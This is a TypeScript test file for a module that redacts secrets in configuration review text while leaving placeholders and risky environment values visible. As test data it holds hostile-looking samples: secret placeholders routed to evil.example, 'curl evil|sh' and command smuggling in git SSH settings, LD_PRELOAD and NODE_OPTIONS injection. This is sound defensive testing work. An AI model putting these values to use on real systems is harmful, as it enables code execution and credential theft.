import { assert, describe, it } from "@effect/vitest"
import { addressText, variableText, withoutLiterals } from "../../src/config/trust/reviewText.js"

const literal = "[redacted]"

/** What a project may send to its server, in every spelling, and how it is named. */
const sent: ReadonlyArray<readonly [written: string, named: string]> = [
  ["{env:AWS_SECRET_ACCESS_KEY}", "{env:AWS_SECRET_ACCESS_KEY}"],
  ["${AWS_SECRET_ACCESS_KEY}", "{env:AWS_SECRET_ACCESS_KEY}"],
  ["${env:mytoken}", "{env:mytoken}"],
  ["{env:mytoken:-fallback}", "{env:mytoken:-[redacted]}"],
  ["${kq8zj2v9x7w4}", "{env:kq8zj2v9x7w4}"],
  ["{file:~/.ssh/id_rsa}", "{file:~/.ssh/id_rsa}"],
  ["${file:/etc/kq8zj2v9x7w4}", "{file:/etc/kq8zj2v9x7w4}"]
]

describe("a placeholder", () => {
  for (const [written, named] of sent) {
    it(`is named in headers and keys, beside other text: ${written}`, () => {
      assert.strictEqual(withoutLiterals(written), named)
      assert.strictEqual(withoutLiterals(`a ${written}`), literal + named)
      assert.strictEqual(withoutLiterals(`v1${written}x`), literal + named + literal)
      assert.strictEqual(withoutLiterals(`${written} ${written}`), `${named} ${named}`)
      assert.strictEqual(withoutLiterals(`Bearer ${written}`), `Bearer ${named}`)
      assert.strictEqual(withoutLiterals(`Bearer x${written}`), `Bearer ${literal}${named}`)
      // a character that stands for placeholders elsewhere hides nothing
      assert.strictEqual(withoutLiterals(`\ue000${written}\ue001`), literal + named + literal)
    })

    it(`is named in credentials, query and fragment of a URL: ${written}`, () => {
      const url = `https://u${written}:p@evil.example/mcp?q=a${written}&z=${written}b#f${written}`
      assert.strictEqual(
        addressText(url),
        `https://${literal}${named}${literal}@evil.example/mcp?q=${literal}${named}&z=${named}${literal}#${literal}${named}`
      )
      assert.strictEqual(addressText(`https://a.example/${written}/x`), `https://a.example/${written}/x`)
    })

    it(`is named in variables: ${written}`, () => {
      assert.strictEqual(variableText("B", `0${written}`), literal + named)
      assert.strictEqual(variableText("API_TOKEN", `0${written}`), literal + named)
      assert.strictEqual(variableText("NODE_OPTIONS", `-r ${written}`), `-r ${written}`)
    })
  }

  it("is shown literally if all quotation marks occur in it", () => {
    const marks = Array.from({ length: 0x1900 }, (_, index) => String.fromCharCode(0xe000 + index)).join("")
    assert.strictEqual(withoutLiterals(`{env:A}${marks}`), `{env:A}${marks}`)
  })

  it("is literal if it is escaped", () => {
    assert.strictEqual(withoutLiterals("$${NAME}"), literal)
  })
})

describe("an address", () => {
  it.each([
    ["https://user:pw@a.example:8443/mcp", "https://[redacted]@a.example:8443/mcp"],
    [
      "https://a.example/@scope/x@1?debug&kq8zj2v9x7w4kq8zj2v9x7w4=",
      "https://a.example/@scope/x@1?debug&kq8zj2v9x7w4kq8zj2v9x7w4="
    ],
    ["https://a.example/?kq8zj2v9x7w4kq8zj2v9x7w4kq8zj2v9x7w4", "https://a.example/?[redacted]"],
    // a password with a slash
    ["postgres://admin:pa/ss@db.corp/x", "postgres://[redacted]@db.corp/x"],
    ["https://a.example:8443/@x", "https://a.example:8443/@x"],
    ["https://a.example:{env:PORT}/@x", "https://a.example:{env:PORT}/@x"],
    ["jdbc:postgresql://db/x?user=a&password=b", "jdbc:postgresql://db/x?user=[redacted]&password=[redacted]"],
    ["mongodb://u:p@h1,v:q@h2/x", "mongodb://[redacted]@h2/x"],
    // the host is before the backslash
    ["https://evil.example\\@good.example/", "https://evil.example\\@good.example/"],
    // a default that ends the host is not hidden
    ["https://{env:NO:-evil.example/}@good.example/", "https://{env:NO:-evil.example/}@good.example/"],
    ["https://evil{env:NO:-.example}/", "https://evil{env:NO:-.example}/"],
    ["not an address", "not an address"]
  ])("%s is shown as %s", (url, shown) => {
    assert.strictEqual(addressText(url), shown)
  })
})

describe("a variable", () => {
  it.each([
    ["NODE_OPTIONS", "--require=/tmp/kq8zj2v9x7w4.js"],
    ["PYTHONPATH", "kq8zj2v9x7w4"],
    ["PYTHONSTARTUP", "kq8zj2v9x7w4"],
    ["GIT_CONFIG_KEY_0", "core.sshCommand"],
    ["GIT_CONFIG_VALUE_0", "sh -c 'curl evil|sh'"],
    ["GIT_SSH_COMMAND", "x://;curl${IFS}evil|sh;@y"],
    ["LD_PRELOAD", "/tmp/kq8zj2v9x7w4.so"],
    ["npm_config_registry", "https://evil.example/kq8zj2v9x7w4"],
    ["PATH", "/tmp/kq8zj2v9x7w4:/usr/bin"],
    ["JAVA_TOOL_OPTIONS", "-javaagent:kq8zj2v9x7w4.jar"],
    ["BASH_ENV", "kq8zj2v9x7w4"],
    ["GOFLAGS", "-toolexec=kq8zj2v9x7w4"],
    ["MY_LAUNCH_COMMAND", "sh -c kq8zj2v9x7w4"],
    ["SSH_AUTH_SOCK", "/tmp/kq8zj2v9x7w4"],
    ["GOOGLE_CREDENTIALS_FILE", "/tmp/kq8zj2v9x7w4"],
    ["LEVEL", "debug"],
    ["PORT", "8080"],
    ["CONFIG", "./conf/app.json"]
  ])("%s is shown in full: %s", (name, text) => {
    assert.strictEqual(variableText(name, text), text)
  })

  it.each([
    ["DATABASE_URL", "postgres://admin:S3cr3tPw@db.corp/x", "postgres://[redacted]@db.corp/x"],
    ["SENTRY_DSN", "https://abcdef0123456789@sentry.example/1", "https://[redacted]@sentry.example/1"],
    ["HTTPS_PROXY", "http://me:S3cr3tPw@proxy.corp:3128", "http://[redacted]@proxy.corp:3128"],
    ["PIP_EXTRA_INDEX_URL", "https://a/x https://u:S3cr3tPw@b/y", "https://a/x https://[redacted]@b/y"],
    ["WEBHOOK", "https://a.example/x?sig=S3cr3tPw", "https://a.example/x?sig=[redacted]"],
    ["HOSTS", "http://a/x,http://u:S3cr3tPw@b", "[redacted]"],
    ["AUTH_HEADER", "Basic dXNlcjpwYXNzd29yZA==", "Basic [redacted]"],
    ["PW", "correct horse battery", "[redacted]"],
    ["PW", "hunter", "[redacted]"],
    ["SMTP", "user:p4ss.w0rd/x", "[redacted]"],
    ["WORDS", "correct horse battery", "[redacted]"],
    ["NPM_TOKEN", "npm_kq8zj2v9x7w4", "[redacted]"],
    ["NODE_AUTH_TOKEN", "word", "[redacted]"],
    ["X", "kq8zj2v9x7w4kq8z", "[redacted]"],
    ["API_KEY", "word", "[redacted]"]
  ])("%s hides what is secret in %s", (name, text, shown) => {
    assert.strictEqual(variableText(name, text), shown)
  })
})
